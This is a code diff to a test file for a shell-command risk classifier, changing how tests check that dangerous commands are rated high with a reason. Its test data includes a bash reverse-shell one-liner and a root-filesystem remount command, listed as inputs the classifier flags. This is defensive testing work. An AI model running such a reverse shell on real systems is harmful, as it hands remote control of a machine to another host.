@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { reasonText, toReason } from "../../../protocol/reasons.ts";
 import { commandRisk } from "./risk.ts";
 
 describe("a command that only reads is low:", () => {
@@ -208,7 +209,9 @@ describe("a command that destroys or breaks out is high, with a reason:", () => 
     ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", /another computer/],
     ["mount -o remount,rw /", /system/],
   ])("%s", (command, reason) => {
-    expect(commandRisk(command)).toEqual({ risk: "high", reason: expect.stringMatching(reason) });
+    const judged = commandRisk(command);
+    expect(judged.risk).toBe("high");
+    expect(reasonText([toReason(judged.reason ?? "")])).toMatch(reason);
   });
 });
 
